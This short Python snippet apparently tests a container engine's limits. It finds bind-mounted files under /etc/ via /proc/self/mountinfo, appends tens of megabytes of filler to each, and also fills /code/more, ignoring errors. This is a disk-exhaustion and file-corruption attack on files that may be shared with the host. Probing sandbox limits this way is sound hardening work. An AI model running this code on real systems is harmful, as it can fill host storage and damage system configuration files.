# The files that the engine binds into a container lie beside its layer: each nearly to the limit, and as much in the layer itself as it may hold.
import time

copy_all()
bound = [line.split()[4] for line in open("/proc/self/mountinfo")]
for path in [path for path in bound if path.startswith("/etc/")] + ["/code/more"]:
    try:
        with open(path, "ab", buffering=0) as file:
            for _ in range(40 if path.startswith("/code") else 63):
                file.write(b"\1" * (1 << 20))
            if path.startswith("/code"):
                os.fsync(file.fileno())
    except OSError:
        pass
time.sleep(60)
